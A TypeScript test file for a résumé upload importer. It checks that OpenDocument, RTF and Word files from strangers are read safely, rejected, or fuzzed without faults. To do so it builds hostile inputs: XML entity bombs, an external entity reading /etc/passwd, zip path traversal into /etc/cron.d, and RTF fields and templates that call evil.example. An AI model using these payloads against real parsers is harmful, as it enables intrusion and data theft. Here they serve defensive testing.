import { strToU8, zipSync, type ZipOptions, type Zippable } from 'fflate';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_LINEAR_GROWTH, measureGrowth } from '../../test/support/growth.ts';
import { isErrorCode } from '../../shared/errors/errors.ts';
import { UPLOAD_FORMATS } from '../../shared/upload/uploadFormats.ts';
import { checkFileHeader } from './file/fileHeader.ts';
import { readRtfDocument } from './rtf/rtfDocument.ts';
import { decodeText } from './file/decodeText.ts';
import { readTextDocument } from './text/textDocument.ts';
import { importText } from './textImport.ts';
import { p, run, word } from './word/wordXml.fixture.ts';

/** What strangers may send as OpenDocument, RTF and text; Word files: word/wordFiles.test.ts. */
const NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns';
const RESUME = [
  'Maya Cohen',
  'maya@korot.example',
  'Experience',
  'Cook, Korot, 2019 - 2023',
  'Education',
  'B.A., 2018',
];
const content = (body: string, doctype = '') =>
  `${doctype}<office:document-content xmlns:office="${NAMESPACE}:office:1.0" xmlns:text="${NAMESPACE}:text:1.0" ` +
  `xmlns:script="${NAMESPACE}:script:1.0"><office:body><office:text>${body}</office:text></office:body>` +
  '</office:document-content>';
const body = RESUME.map((line) => `<text:p>${line}</text:p>`).join('');
const odt = (parts: Zippable = {}, xml = content(body)) =>
  zipSync({ mimetype: strToU8(UPLOAD_FORMATS.odt.mediaTypes[0]), 'content.xml': strToU8(xml), ...parts });
const rtf = (text: string) => Buffer.from(String.raw`{\rtf1\ansi ${text}}`, 'latin1');
const rtfResume = RESUME.join(String.raw`\par `);

const manifest = (inside: string) =>
  strToU8(
    `<manifest:manifest xmlns:manifest="${NAMESPACE}:manifest:1.0"><manifest:file-entry manifest:full-path=` +
      `"content.xml">${inside}</manifest:file-entry></manifest:manifest>`,
  );

const outcome = async (bytes: Uint8Array) => {
  const read = await importText(bytes);
  return 'error' in read ? read.error : read.resumeData.personalInfo.email;
};

describe('an OpenDocument file of a stranger', () => {
  it('is read where nothing is wrong with it', async () => {
    expect(await outcome(odt())).toBe('maya@korot.example');
  });

  it('[UP-03] that is encrypted is protected by a password, in the older way and in the newer', async () => {
    const noise = Uint8Array.from({ length: 500 }, (_, at) => (at * 7 + 13) % 256);
    const encrypted = manifest('<manifest:encryption-data manifest:checksum="x"/>');
    expect(await outcome(odt({ 'META-INF/manifest.xml': encrypted, 'content.xml': noise }))).toBe('password_protected');
    const mimetype = strToU8(UPLOAD_FORMATS.odt.mediaTypes[0]);
    const wrapped = zipSync({ mimetype, 'encrypted-package': noise, 'META-INF/manifest.xml': encrypted }, { level: 0 });
    expect(await outcome(wrapped)).toBe('password_protected');
    expect(await outcome(odt({ 'META-INF/manifest.xml': manifest('') }))).toBe('maya@korot.example');
  });

  it('is refused where it unpacks to too much or has too many entries', async () => {
    // Stored: a compressor prepares itself for every part, also for one of no bytes.
    const none: [Uint8Array, ZipOptions] = [new Uint8Array(), { level: 0 }];
    const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`Pictures/${at}`, none]));
    expect(await outcome(odt(many))).toBe('pdf_too_large');
    expect(await outcome(odt({ 'content.xml': [new Uint8Array(9_000_000), { level: 1 }] }))).toBe('pdf_too_large');
    const lines = '<text:p>Skills</text:p>'.repeat(4_000);
    expect(await outcome(odt({}, content(lines)))).toBe('too_many_pages');
  });

  it.each([
    ['entities', content(body, '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>')],
    ['a file outside', content('<text:p>&a;</text:p>', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')],
    ['elements within each other', content('<text:p>'.repeat(100_000))],
  ])('is damaged by %s', async (_, xml) => {
    expect(await outcome(odt({}, xml))).toBe('damaged_pdf');
  });

  it('is only its text: paths are names, macros and scripts are not opened', async () => {
    const macros = {
      '../../../etc/cron.d/x': strToU8('* * * * * root x'),
      '/etc/passwd': strToU8('x'),
      'Basic/Standard/Module1.xml': strToU8('<script:module xmlns:script="x">Shell("x")</script:module>'),
      'Scripts/python/x.py': strToU8('import os'),
    };
    const xml = content(`<office:scripts><script:event-listener/></office:scripts>${body}`);
    expect(await outcome(odt(macros, xml))).toBe('maya@korot.example');
  });
});

describe('a Word file with macros', () => {
  it('is only its text, also as the format that names them', async () => {
    const bytes = word(RESUME.map((line) => p(run(line))).join(''), { 'word/vbaProject.bin': strToU8('AutoOpen') });
    expect(checkFileHeader(bytes, 'application/vnd.ms-word.document.macroEnabled.12')).toBeUndefined();
    expect(await outcome(bytes)).toBe('maya@korot.example');
  });
});

describe('an RTF file of a stranger', () => {
  it('is read where it only breaks off, or goes on behind its end', async () => {
    const whole = rtf(rtfResume);
    expect(await outcome(whole)).toBe('maya@korot.example');
    expect(await outcome(whole.subarray(0, -1))).toBe('maya@korot.example');
    expect(await outcome(Buffer.concat([whole, Buffer.from('}}}}{{{{')]))).toBe('maya@korot.example');
  });

  it.each([
    ['groups without an end', rtf('{'.repeat(1_000_000)), 'damaged_pdf'],
    ['ends without groups', rtf('}'.repeat(1_000_000)), 'nothing_found'],
    ['too much text', rtf('a '.repeat(600_000)), 'pdf_too_large'],
    ['too many paragraphs', rtf(String.raw`\par`.repeat(30_000)), 'pdf_too_large'],
    ['too many cells', rtf(String.raw`\intbl\cell`.repeat(30_000)), 'pdf_too_large'],
    ['tables within each other', rtf(String.raw`\intbl\itap999999999 x\nestcell`.repeat(3_000)), 'nothing_found'],
    ['boxes within each other', rtf(String.raw`{\shptxt x`.repeat(400)), 'nothing_found'],
    ['a picture that is longer than the file', rtf(String.raw`\bin999999999 x`), 'nothing_found'],
    ['a number without an end', rtf(`\\b${'1'.repeat(100_000)}`), 'nothing_found'],
    ['a word without an end', rtf(`\\${'b'.repeat(1_000_000)}`), 'too_many_pages'],
  ] as const)('with %s is answered', async (_, bytes, error) => {
    expect(await outcome(bytes)).toBe(error);
  });

  it('says nothing of objects, and asks for no address', async () => {
    const object = String.raw`{\object\objautlink\objupdate{\*\objclass Equation.3}{\*\objdata d0cf}{\result evil}}`;
    const field = String.raw`{\field{\*\fldinst INCLUDETEXT "http://evil.example/x"}{\fldrslt }}`;
    const template = String.raw`{\*\template http://evil.example/t.dotm}`;
    const found = await importText(rtf(template + object + field + rtfResume));
    expect(JSON.stringify(found)).not.toContain('evil');
    expect(found).not.toHaveProperty('error');
  });
});

describe('any bytes', () => {
  const words = fc.constantFrom(
    '{',
    '}',
    '\\',
    "\\'",
    '\\u',
    '\\par',
    '\\cell',
    '\\row',
    '\\intbl',
    '\\nestrow',
    '\\*',
    '\\field',
    '\\header',
    '\\fonttbl',
    '\\f1',
    '\\fcharset128',
    '\\listtext',
    '\\shptxt',
    '\\uc',
    '\\bin',
    '-',
    '9',
    ' ',
    'e9',
    'ש',
    '**',
    '](',
    '|',
    '\n',
    '#',
    '- ',
    '\t',
    '===',
  );
  const bytes = fc.oneof(
    fc.uint8Array({ maxLength: 400 }),
    fc.array(words, { maxLength: 120 }).map((parts) => Buffer.from(parts.join(''))),
  );

  it('are a résumé or an error of the catalogue, whatever they are called', async () => {
    await fc.assert(
      fc.asyncProperty(bytes, fc.constantFrom('', '{\\rtf1', 'PK\u0003\u0004word/document.xml'), async (any, head) => {
        const read = await importText(Buffer.concat([Buffer.from(head, 'latin1'), any]));
        expect('error' in read ? isErrorCode(read.error) : read.resumeData).toBeTruthy();
      }),
      { numRuns: 300 },
    );
  });

  it('are read as RTF and as text without a fault that is not foreseen', () => {
    fc.assert(
      fc.property(bytes, (any) => {
        readRtfDocument(Buffer.concat([Buffer.from('{\\rtf1'), any]));
        readTextDocument(decodeText(any) ?? '');
      }),
      { numRuns: 500 },
    );
  });
});

describe('reading takes as long as a file is long', { tags: 'exhaustive' }, () => {
  it.each([
    ['groups of RTF', (size: number) => readRtfDocument(rtf('{}'.repeat(size)))],
    ['words of RTF', (size: number) => readRtfDocument(rtf('\\b\\b0 '.repeat(size)))],
    ['unknown groups of RTF', (size: number) => readRtfDocument(rtf('{\\*\\x a}'.repeat(size)))],
    ['fonts of RTF', (size: number) => readRtfDocument(rtf('\\f1 a\\f2 b'.repeat(size)))],
    ['marks of Markdown', (size: number) => readTextDocument('**a _b [c](d '.repeat(size))],
    ['spaces', (size: number) => readTextDocument(`# a${' '.repeat(size)}b`)],
    ['signs', (size: number) => readTextDocument('- * | # > ` ='.repeat(size))],
    ['bars', (size: number) => readTextDocument(`|a|\n|--|\n${'|'.repeat(size)}`)],
  ])('%s', (_, work) => {
    expect(measureGrowth(work)).toBeLessThan(MAX_LINEAR_GROWTH);
  });
});
